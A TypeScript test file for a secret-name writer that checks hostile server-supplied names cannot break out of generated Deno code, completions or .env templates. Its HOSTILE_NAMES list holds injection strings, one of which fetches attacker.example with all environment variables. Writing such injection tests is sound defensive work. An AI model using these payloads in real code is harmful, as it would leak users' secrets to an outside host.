import * as assert from 'node:assert/strict';
import * as vm from 'node:vm';
import { completionInsertText, variableCompletionContext } from '../../../src/core/code/completionContext';
import { buildEnvTemplate } from '../../../src/core/code/envTemplate';
import { parseEnvFile } from '../../../src/core/code/envFile';
import { UnwritableNameError, writeSecretName } from '../../../src/core/code/secretNameWriter';
import { findStringLiterals } from '../../../src/core/code/stringLiterals';
import type { JsQuote } from '../../../src/core/jsString';
import { denoReference, secretVariableName } from '../../../src/core/secretVariable';

/** Names a hostile server can give a secret, each trying to end the string it is written into. */
const HOSTILE_NAMES = [
  'X" + (fetch("https://attacker.example/?" + JSON.stringify(Deno.env.toObject())), "") + "',
  'FLUXBASE_X") + steal() + ("',
  "single' + steal() + '",
  'back\\slash\\',
  'back\\" + steal() + "',
  'new\nline',
  'carriage\rreturn',
  '${steal()}',
  '`) + steal() + (`',
  'ls\u2028ps\u2029nel\u0085',
  'nul\u0000tab\t',
  "$&$`$'",
  '</script><script>steal()</script>',
] as const;

const PLAIN_NAMES = ['stripe_key', 'FLUXBASE_CUSTOM', 'FLUXBASE_lower', 'API2'] as const;

/** Runs `code` with a Deno whose env.get records its argument; anything else it calls throws. */
function variablesRead(code: string): string[] {
  const read: string[] = [];
  vm.runInNewContext(code, { Deno: { env: { get: (variable: string) => void read.push(variable) } } });
  return read;
}

/** The one string literal of `code` (none or several fail, as does a line break), its value with escapes resolved. */
function onlyLiteral(code: string): string | undefined {
  assert.doesNotMatch(code.trimEnd(), /[\r\n\u0085\u2028\u2029]/, 'written on one line');
  const literals = findStringLiterals(code);
  assert.equal(literals.length, 1, `one string literal in ${code}`);
  return literals[0]?.value;
}

describe('writeSecretName', () => {
  it('writes the default reference exactly like denoReference', () => {
    for (const name of [...PLAIN_NAMES, 'Mixed.Case', ...HOSTILE_NAMES]) {
      assert.equal(writeSecretName(name, { kind: 'reference' }), denoReference(name));
    }
  });

  it('replaces every ${variable} and ${name} of a user template', () => {
    assert.equal(
      writeSecretName('api_key', { kind: 'reference', template: 'env("${variable}") /* ${name}, ${variable} */' }),
      'env("FLUXBASE_SECRET_API_KEY") /* api_key, FLUXBASE_SECRET_API_KEY */',
    );
    assert.equal(
      writeSecretName('FLUXBASE_lower', { kind: 'reference', template: '$&${variable}$1' }),
      '$&FLUXBASE_lower$1',
    );
  });

  for (const name of HOSTILE_NAMES) {
    const variable = secretVariableName(name);

    it(`writes ${JSON.stringify(name)} in the default reference as one literal that reads exactly its variable`, () => {
      const reference = writeSecretName(name, { kind: 'reference' });
      assert.equal(onlyLiteral(reference), variable);
      assert.equal(JSON.parse(reference.slice('Deno.env.get('.length, -1)), variable);
      assert.deepEqual(variablesRead(reference), [variable]);
    });

    it(`completes ${JSON.stringify(name)} inside each kind of string as that string's exact content`, () => {
      for (const quote of ['"', "'", '`'] as JsQuote[]) {
        const before = `Deno.env.get(${quote}FLUXBASE_SECRET_`;
        const text = `${before}${quote});\n`;
        const context = variableCompletionContext(text, before.length);
        assert.ok(context, `a completion context in ${text}`);
        const code =
          text.slice(0, context.contentStart) +
          completionInsertText(text, context, name) +
          text.slice(context.contentEnd);
        assert.equal(onlyLiteral(code), variable, code);
        assert.deepEqual(variablesRead(code), [variable], code);
        if (quote === '"') {
          assert.equal(JSON.parse(code.slice('Deno.env.get('.length, -3)), variable);
        }
      }
    });

    it(`refuses ${JSON.stringify(name)} for a user template and as a .env key, naming the secret`, () => {
      for (const destination of [
        { kind: 'reference', template: 'env("${variable}")' },
        { kind: 'reference', template: 'env(${name})' },
        { kind: 'envKey' },
      ] as const) {
        assert.throws(
          () => writeSecretName(name, destination),
          (error: Error) =>
            error instanceof UnwritableNameError &&
            error.secretName === name &&
            error.message.startsWith('Secret "') &&
            !/[\r\n\u2028\u2029[\]()]/.test(error.message),
        );
      }
    });
  }

  it('writes plain names, FLUXBASE_ ones unchanged, through user templates and as .env keys', () => {
    for (const name of PLAIN_NAMES) {
      const variable = secretVariableName(name);
      assert.equal(writeSecretName(name, { kind: 'reference', template: 'env("${variable}")' }), `env("${variable}")`);
      assert.equal(writeSecretName(name, { kind: 'envKey' }), variable);
    }
    assert.equal(writeSecretName('FLUXBASE_lower', { kind: 'envKey' }), 'FLUXBASE_lower');
    // upper-cases to a plain variable, but the template would write the name itself
    assert.throws(() => writeSecretName('straße', { kind: 'reference', template: '${name}' }), UnwritableNameError);
  });

  it('leaves hostile names out of the .env template: every line is a comment or an empty plain assignment', () => {
    const { content, leftOut } = buildEnvTemplate(
      [
        ...HOSTILE_NAMES.map((name) => ({ name, description: name })),
        { name: 'stripe_key', description: 'a\u2028EVIL=1\u2029B=2\u0085C=3\rD=4\nE=5' },
      ],
      'heading',
    );
    assert.deepEqual(leftOut, [...HOSTILE_NAMES]);
    assert.match(content, /^# Left out: 13 secret\(s\)/m);
    for (const line of content.split(/\r\n|[\n\r\u0085\u2028\u2029]/)) {
      assert.match(line, /^(#.*|FLUXBASE_SECRET_STRIPE_KEY=|)$/, JSON.stringify(line));
    }
    const parsed = parseEnvFile(content);
    assert.deepEqual(parsed.entries, []);
    assert.deepEqual(
      parsed.problems.map((p) => p.key),
      ['FLUXBASE_SECRET_STRIPE_KEY'],
    );
  });
});
